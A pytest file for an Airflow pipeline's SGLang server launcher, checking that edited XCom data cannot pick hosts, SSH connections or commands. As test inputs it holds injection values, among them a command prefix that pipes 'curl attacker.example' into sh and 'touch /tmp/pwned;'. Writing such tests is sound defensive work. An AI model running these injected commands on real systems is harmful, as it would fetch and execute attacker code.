"""XCom is not trusted: Op and Admin users can edit it over the REST API.

A launch report, a sensor's target or a list of servers read back from XCom names servers by
identifier only; every fact (host, SSH connection, command prefix, log directory, URL, model
expectation, timeout, key connection) comes from the deployment and run settings, and an
identifier the deployment does not list is refused before any command or request.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import time
from typing import Any

import pytest
from airflow.sdk.exceptions import TaskDeferred

from include.servers.commands import ServerSpec, server_specs
from include.servers.expectations import ModelExpectation
from include.servers.hosts import CommandResult, HostRunner, Runners
from include.servers.launch_report import (
    LaunchReport,
    ServerOutcome,
    XComMismatchError,
    trusted_spec,
    trusted_urls,
)
from include.servers.launcher import stop_servers
from include.servers.lifecycle import lease_name
from include.servers.sensor import ServerHealthSensor
from include.settings import RunSettings
from sglang_standin.process import free_port
from tests.fixtures.settings import deployment_env, run_settings

MISMATCH = "XCom did not match the deployment"
HOSTS = [{"host": "127.0.0.1", "ssh_conn_id": "ssh_gpu", "gpus": [0, 1],
          "command_prefix": "nice -n 0"}]
SETTINGS = run_settings(gpu_hosts=HOSTS, server_log_dir="/srv/sglang")


class RecordingRunners(Runners):
    """Runners that record each command (and the SSH connection it used) and run nothing."""

    def __init__(self) -> None:
        super().__init__()
        self.commands: list[tuple[str | None, str]] = []

    def for_spec(self, spec: ServerSpec) -> HostRunner:
        commands = self.commands

        class Recorder(HostRunner):
            def execute(self, command: str, timeout: float = 60.0,
                    stdin: bytes | None = None) -> CommandResult:
                commands.append((spec.ssh_conn_id, command))
                # Another run still leases it: teardown keeps it (no port check follows).
                return CommandResult(0, "kept leases=1 holders=other/run\n", "")

        return Recorder()


def launched(owner: str = "dag/run") -> LaunchReport:
    """Return the report of a launch that started both servers of SETTINGS."""
    return LaunchReport([ServerOutcome(s, "started", True, 100 + s.gpu, leased=True)
                         for s in server_specs(SETTINGS)],
                        ModelExpectation.from_settings(SETTINGS), SETTINGS.launch_timeout_s,
                        owner, SETTINGS.deployment.sglang_conn_id)


def test_xcom_holds_identifiers_and_no_host_fact() -> None:
    data = json.loads(json.dumps(launched().to_dict()))
    assert [s["server"] for s in data["servers"]] == [
        {"host": "127.0.0.1", "port": p, "url": f"http://127.0.0.1:{p}"} for p in (30000, 30001)]
    text = json.dumps(data)
    for fact in ("nice -n 0", "ssh_gpu", "/srv/sglang", "command_prefix", "health_targets"):
        assert fact not in text
    assert launched().health_targets() == [{"host": "127.0.0.1", "port": 30000},
                                           {"host": "127.0.0.1", "port": 30001}]


@pytest.mark.parametrize("identifier", [
    {"host": "127.0.0.1", "port": 30001}, "127.0.0.1:30001",
    {"host": "127.0.0.1", "port": "30001", "url": "http://127.0.0.1:30001"},
    # A report of an older release carried every fact: the deployment's own are accepted.
    server_specs(SETTINGS)[1].to_dict(),
])
def test_an_identifier_gives_the_deployments_own_spec(identifier: Any) -> None:
    spec = trusted_spec(identifier, SETTINGS)
    assert spec == server_specs(SETTINGS)[1]
    assert (spec.ssh_conn_id, spec.command_prefix, spec.log_dir) == (
        "ssh_gpu", "nice -n 0", "/srv/sglang")


def test_an_ipv6_identifier_is_matched_as_written_in_urls() -> None:
    s = run_settings(gpu_hosts=[{"host": "::1", "gpus": [2]}])
    assert trusted_spec("[::1]:30002", s).url == "http://[::1]:30002"
    assert trusted_spec({"host": "::1", "port": 30002}, s) == server_specs(s)[0]


@pytest.mark.parametrize("identifier", [
    {"host": "evil.example", "port": 30000}, {"host": "127.0.0.1", "port": 22},
    "127.0.0.1:30009", "http://evil.example:80", {"host": "127.0.0.1"},
    {"host": "127.0.0.1", "port": True}, {"host": "127.0.0.1", "port": 30000.5}, 42, None,
])
def test_an_identifier_the_deployment_does_not_list_is_refused_naming_it(identifier: Any
                                                                         ) -> None:
    with pytest.raises(XComMismatchError, match=MISMATCH) as err:
        trusted_spec(identifier, SETTINGS)
    text = str(err.value)
    assert repr(identifier)[:20] in text or str(identifier) in text
    assert "127.0.0.1:30000, 127.0.0.1:30001" in text  # what the deployment has


#: Edits of one server of the launch report's XCom, each a way to choose what runs where.
EDITS = {
    "host": {"host": "attacker.example"},
    "port": {"port": 2222},
    "command_prefix": {"command_prefix": "sh -c 'curl -s attacker.example | sh' #"},
    "ssh_conn_id": {"ssh_conn_id": "ssh_other_cluster"},
    "log_dir": {"log_dir": "/etc"},
    "url": {"url": "http://attacker.example:80"},
    "cuda_devices": {"cuda_devices": [0, 1]},
}


@pytest.mark.parametrize("field", sorted(EDITS))
def test_an_edited_launch_report_makes_teardown_refuse_before_any_command(field: str) -> None:
    data = copy.deepcopy(launched().to_dict())
    data["servers"][1]["server"].update(EDITS[field])
    runners = RecordingRunners()
    with pytest.raises(XComMismatchError, match=MISMATCH):
        stop_servers(data, SETTINGS, owner="dag/run", runners=runners)
    assert runners.commands == []  # not even the first, untouched server's release ran
    with pytest.raises(XComMismatchError, match=MISMATCH):
        LaunchReport.from_dict(data, SETTINGS)  # nor can the gate or preflight read it


def test_an_in_process_report_with_other_facts_is_refused_too() -> None:
    report = launched()
    report.servers[0].server = dataclasses.replace(report.servers[0].server,
                                                   command_prefix="touch /tmp/pwned;")
    runners = RecordingRunners()
    with pytest.raises(XComMismatchError, match="command_prefix"):
        stop_servers(report, SETTINGS, runners=runners)
    assert runners.commands == []


def test_teardown_runs_the_deployments_commands_and_releases_the_runs_own_lease() -> None:
    data = launched(owner="someone else/their run").to_dict()  # an edited owner
    runners = RecordingRunners()
    out = stop_servers(data, SETTINGS, owner="dag/run", runners=runners)
    assert len(out.kept) == 2 and out.left_behind == []
    assert [conn for conn, _ in runners.commands] == ["ssh_gpu", "ssh_gpu"]
    for _, command in runners.commands:
        assert command.startswith("nice -n 0 sh -c ")
        assert "/srv/sglang/server-3000" in command
        assert lease_name("dag/run") in command
        assert lease_name("someone else/their run") not in command


def test_a_report_read_back_takes_expectation_timeout_and_key_connection_from_settings(
) -> None:
    data = launched().to_dict()
    data.update(expected={"model_name": "other", "context_length": 1}, launch_timeout_s=1e9,
                sglang_conn_id="a_connection_with_another_secret")
    back = LaunchReport.from_dict(data, SETTINGS)
    assert back.expected == ModelExpectation.from_settings(SETTINGS)
    assert back.launch_timeout_s == SETTINGS.launch_timeout_s
    assert back.sglang_conn_id == SETTINGS.deployment.sglang_conn_id


def test_an_edited_server_list_gives_no_url_to_send_prompts_and_the_key_to() -> None:
    good = [{"host": "127.0.0.1", "port": 30000}, {"host": "127.0.0.1", "port": 30001}]
    assert trusted_urls(good, SETTINGS) == ["http://127.0.0.1:30000", "http://127.0.0.1:30001"]
    for edited in ([*good, {"host": "attacker.example", "port": 80}],
                   ["http://attacker.example:80"], "http://127.0.0.1:30000", {"a": 1}, None):
        with pytest.raises(XComMismatchError, match=MISMATCH):
            trusted_urls(edited, SETTINGS)


def local(port: int) -> RunSettings:
    return run_settings(gpu_hosts=[{"host": "127.0.0.1", "gpus": [0]}], port_base=port,
                        server_log_dir="/nonexistent-dir")


@pytest.mark.parametrize("server", [
    {"host": "attacker.example", "port": 80},
    {"host": "127.0.0.1", "port": 0, "command_prefix": "touch /tmp/pwned;"},
])
def test_the_gate_refuses_a_server_the_deployment_does_not_list(server: dict[str, Any]) -> None:
    port = free_port()
    server = {**server, "port": server["port"] or port}
    sensor = ServerHealthSensor(task_id="wait", server=server, settings=local(port),
                                deferrable=False)
    started = time.monotonic()
    with pytest.raises(XComMismatchError, match=MISMATCH):
        sensor.execute({})
    assert time.monotonic() - started < 2  # refused, not probed until the timeout


def test_the_gate_rebuilds_its_facts_from_the_runs_params(monkeypatch: pytest.MonkeyPatch
                                                          ) -> None:
    port = free_port()  # nothing listens: the sensor defers
    hosts = [{"host": "127.0.0.1", "gpus": [0], "command_prefix": "nice -n 0"}]
    for name, value in deployment_env({"gpu_hosts": hosts, "port_base": port,
                                       "server_log_dir": "/nonexistent-dir",
                                       "sglang_conn_id": "sglang_from_env"}).items():
        monkeypatch.setenv(name, value)
    params = {"launch_timeout_s": 120, "served_model_name": "from-params"}
    sensor = ServerHealthSensor(task_id="wait", server={"host": "127.0.0.1", "port": port},
                                poke_interval=1)
    with pytest.raises(TaskDeferred) as deferred:
        sensor.execute({"params": params})
    t = deferred.value.trigger
    assert t.server["command_prefix"] == "nice -n 0" and t.server["log_dir"] == (
        "/nonexistent-dir")
    assert t.sglang_conn_id == "sglang_from_env"
    assert t.expected["model_name"] == "from-params"
    assert 110 < t.deadline - time.time() <= 120
    with pytest.raises(Exception, match="no run params"):
        ServerHealthSensor(task_id="w", server={"host": "127.0.0.1", "port": port}).execute({})
